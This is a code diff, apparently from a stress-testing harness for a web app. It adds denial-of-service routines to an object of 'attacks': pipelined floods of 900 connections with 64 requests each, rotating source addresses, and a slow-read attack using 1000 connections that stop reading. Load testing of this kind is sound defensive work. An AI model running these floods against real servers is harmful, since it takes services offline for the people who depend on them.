@@ -73,6 +73,24 @@ function ask(url, count, path) {
   );
 }
 
+/** Connections of which each asks for this 64 times at once, and again when it has it. */
+function pipeline(url, path) {
+  const asked = head('GET', path, [['Host', new URL(url).host]]).repeat(64);
+  again(900, async (i) => {
+    await sleep(i / 2);
+    const connection = await openRaw(url, { localAddress: address() });
+    let answers = 0;
+    connection.onData((text) => {
+      for (let at = -1; (at = text.indexOf('HTTP/1.1 ', at + 1)) !== -1; ) answers += 1;
+      if (answers < 64) return;
+      answers -= 64;
+      connection.write(asked);
+    });
+    await connection.write(asked);
+    await connection.closed;
+  });
+}
+
 const PICTURE = [
   ['Sec-Fetch-Site', 'cross-site'],
   ['Sec-Fetch-Mode', 'no-cors'],
@@ -165,6 +183,23 @@ const attacks = {
       };
       await Promise.allSettled(Array.from({ length: 125 }, upgrade));
     }),
+
+  /** Pages without end: 900 connections, each with 64 requests behind each other. */
+  'pipelined pages': (url) => pipeline(url, '/'),
+  'pipelined boards': (url) => pipeline(url, '/api/v1/leaderboard'),
+  'pipelined files': (url) => pipeline(url, '/favicon.svg'),
+
+  /** A thousand who ask for eight pages of a large board each, and read nothing. */
+  'pages that nobody reads': (url) => {
+    const asked = head('GET', '/', [['Host', new URL(url).host]]).repeat(8);
+    again(1000, async (i) => {
+      await sleep(i / 2);
+      const connection = await openRaw(url, { localAddress: address() });
+      connection.stopReading();
+      await connection.write(asked);
+      await connection.closed;
+    });
+  },
 
   /** The same word fifty times, and each search another. */
   searches: (url) =>
